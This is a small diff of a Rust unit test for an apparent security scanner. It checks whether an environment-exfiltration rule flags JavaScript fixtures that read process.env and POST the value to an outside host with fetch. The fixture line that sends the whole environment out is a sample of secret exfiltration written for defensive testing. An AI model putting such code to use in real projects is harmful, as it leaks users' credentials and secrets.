@@ -83,10 +83,10 @@ fn a_loop_that_may_end_or_wait_is_none_without_end() {
 fn members_of_the_environment_are_not_the_environment() {
     let send = "fetch('https://api.host.io', { method: 'POST', body: key });\n";
     let one = format!("const {{ key }} = process.env;\n{send}");
-    let report = scanned("Sends.", &[("scripts/a.js", &one)]);
+    let report = scanned("Sends.", &[("scripts/a.js", one.as_str())]);
     assert!(!finds(&report, "exfiltration/environment-flow"), "{:#?}", report.findings);
 
     let all = format!("const {{ ...key }} = process.env;\n{send}");
-    let report = scanned("Sends.", &[("scripts/a.js", &all)]);
+    let report = scanned("Sends.", &[("scripts/a.js", all.as_str())]);
     assert!(finds(&report, "exfiltration/environment-flow"), "{:#?}", report.findings);
 }
